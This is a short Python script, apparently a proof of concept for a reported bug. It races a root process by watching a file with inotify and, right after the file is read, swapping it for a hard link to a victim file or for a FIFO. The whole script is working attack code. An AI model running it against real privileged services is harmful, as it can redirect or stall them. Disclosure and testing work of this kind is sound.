#!/usr/bin/env python3
"""An unprivileged user's race against root (issue 11): wait for the next read of a file to end,
then swap that file for a hard link to another file (or for a FIFO), as fast as possible.

    swap_on_read.py PATH hardlink VICTIM | swap_on_read.py PATH fifo

Uses inotify through ctypes (no package needed). Writes 'armed' to PATH's watcher log when
it waits, 'swapped' once done. Gives up after 600 s.
"""

import ctypes
import os
import select
import sys

IN_CLOSE_NOWRITE = 0x10


def main():
    path, how = sys.argv[1], sys.argv[2]
    libc = ctypes.CDLL(None, use_errno=True)
    fd = libc.inotify_init()
    if fd < 0 or libc.inotify_add_watch(fd, path.encode(), IN_CLOSE_NOWRITE) < 0:
        sys.exit("inotify failed: errno %d" % ctypes.get_errno())
    print("armed", flush=True)
    if not select.select([fd], [], [], 600)[0]:
        sys.exit("nobody read %s" % path)
    os.unlink(path)
    if how == "hardlink":
        os.link(sys.argv[3], path)
    else:
        os.mkfifo(path, 0o600)
    print("swapped", flush=True)


if __name__ == "__main__":
    main()
